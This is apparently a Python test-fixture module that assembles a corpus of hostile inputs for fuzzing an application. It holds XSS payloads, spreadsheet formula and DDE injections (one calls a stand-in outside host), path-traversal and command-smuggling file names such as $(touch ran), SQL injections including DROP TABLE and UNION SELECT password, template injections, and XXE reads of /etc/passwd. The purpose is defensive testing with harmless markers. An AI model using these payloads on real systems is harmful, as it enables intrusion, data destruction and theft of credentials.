"""Hostile texts: what somebody might type, paste or name a file so that it does something elsewhere.

Some thousands of scripts come from brs-kb; these are ours, for what else reads texts. A payload of ours that
runs sets `window.ran`, makes an element `x-ran`, reads the file SECRET or works out PRODUCT.
"""

import random

from brs_kb.payloads import get_all_payloads

# What stands in a file that nothing here may read, and what only a template engine would work out.
SECRET, PRODUCT = "the-secret-of-the-file-8231", str(7 * 191817)
RAN = "window.ran=1"
OUTSIDE = "http://outside.invalid"

SCRIPTS = [
    f"<script>{RAN}</script>",
    f"</title><script>{RAN}</script>",
    f"</textarea><script>{RAN}</script>",
    f"</style><script>{RAN}</script>",
    f"--></script><script>{RAN}</script>",
    f"]]></title></svg><svg onload={RAN}>",
    f'"><img src=x onerror={RAN}>',
    f"'><img src=x onerror={RAN}>",
    f'" autofocus onfocus={RAN} x="',
    f"' autofocus onfocus={RAN} x='",
    f"javascript:{RAN}",
    f'<a href="java\tscript:{RAN}">x</a>',
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s>",
    f"<details open ontoggle={RAN}>",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"+ADw-script+AD4-{RAN}+ADw-/script+AD4-",
    f'<iframe srcdoc="<script>parent.ran=1</script>{RAN}">',
    f'<math><mtext></p><style><img src="</style><img src=x onerror={RAN}>">',
    "<x-ran>inert</x-ran>",
    "</form><form action=//outside.invalid><input name=x-ran>",
    f'<base href="{OUTSIDE}/"><meta http-equiv=refresh content="0;url={OUTSIDE}">',
    '<div style="position:fixed;inset:0">x-ran</div>',
]
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    "|cmd' /C calc'!A0",
    '=HYPERLINK("http://outside.invalid","x")',
    '=WEBSERVICE("http://outside.invalid")',
    "x;=1+1",
    "x\t=1+1",
    'x","=1+1',
    "=DDE(1;2;3)",
    "%0A=1+1",
    "wren\n=1+1",
]
NAMES = [
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\con.csv",
    "....//....//x.csv",
    "%2e%2e%2fx.csv",
    ".htaccess",
    "-rf",
    "aux",
    'x".csv',
    "x\r\nSet-Cookie: ran=1.csv",
    "x%0d%0aSet-Cookie:%20ran=1.csv",
    "gpj.\u202excod.csv",
    "x.csv;.html",
    "$(touch ran).csv",
    "`touch ran`.csv",
    "n" * 5000 + ".csv",
]
TEMPLATES = [
    "{{7*191817}}",
    "${7*191817}",
    "#{7*191817}",
    "<%= 7*191817 %>",
    "{% for x in config %}{{x}}{% endfor %}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{0}{name}{__class__}",
    "%(name)s%s%n%d%",
    "%%s",
    "{",
    "}}",
    "{{constructor.constructor('window.ran=1')()}}",
]
QUERIES = [
    "' OR 1=1 --",
    "'; DROP TABLE resident; --",
    '" OR ""="',
    "1; SELECT pg_sleep(9)",
    "%",
    "_",
    "\\",
    "\\'; --",
    "') UNION SELECT password FROM account --",
]
SIGNS = [
    "\x00",
    "a\x00b",
    "\x1b[31mred",
    "\x08\x7f\x85",
    "\u202egnp.exe",
    "\u2066x\u2069\u2067",
    "wren\u200b-12",
    "\ufeff",
    "\u2028x\u2029",
    "\ufffe\uffff",
    "\U000e0041",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁷󠁬󠁳󠁿",
    "Z̷̢̛̺͎̱͙̖a̸l̵g̶o̴" * 10,
    "İıſßﬃﷺ",
    "١٢٣",
    "½²",
    "9" * 400,
    "-1",
    "1e999",
    "NaN",
    "0x1F",
    "2147483648",
    "99999999999999999999",
    "null",
    "true",
    "[]",
    "\n\n\n",
]
LONG = ["x" * 100_000, "<" * 100_000, "é " * 50_000, "\n" * 100_000]
FILES = [
    '<img src="file://{file}">',
    '<link rel=attachment href="file://{file}">',
    '<link rel=stylesheet href="file://{file}">',
    '<style>@import url("file://{file}"); p{{background:url(file://{file})}}</style>',
    '<svg><image href="file://{file}"/></svg>',
    '<object data="file://{file}"></object>',
    '<iframe src="file://{file}"></iframe>',
    "url(file://{file})",
    '<a rel=attachment href="file://{file}">x</a>',
    '<img src="http://outside.invalid/x.png">',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file://{file}">]><x>&y;</x>',
    '<!--#include file="{file}"-->',
    '<xi:include href="file://{file}" parse="text"/>',
]
# Sent as they are: no text has such bytes.
BYTES = [b"\xff\xfe\x00", b"\xed\xa0\x80", b"\xc0\xaf", b"%", b"%zz", b"%00", b"%ed%a0%80", b"%u0041"]

# For where each costs much: one that does it all at once, and the odd ones in turn.
TOGETHER = f"=1+1;'\"></textarea></title><x-ran>{{{{7*191817}}}}<img src=x onerror={RAN}>"
ODD = ["a\x00b", "99999", "=1+1", *BYTES, "\u202egnp.exe", *LONG, "%(name)s%s{0}"]


def own(file: str = "/etc/passwd") -> list[str]:
    """Ours; those for files ask for this one."""
    named = [text.format(file=file) for text in FILES]
    return [*SCRIPTS, *FORMULAS, *NAMES, *TEMPLATES, *QUERIES, *SIGNS, *named]


def corpus(file: str = "/etc/passwd") -> list[str]:
    """All of them but the very long, each once."""
    known = [entry.payload for entry in get_all_payloads().values()]
    return list(dict.fromkeys([*own(file), *known]))


def some(count: int, seed: object, longest: int = 10_000) -> list[str]:
    """A few of them, the same for the same seed."""
    fitting = [text for text in corpus() if len(text) <= longest]
    return random.Random(str(seed)).sample(fitting, count)
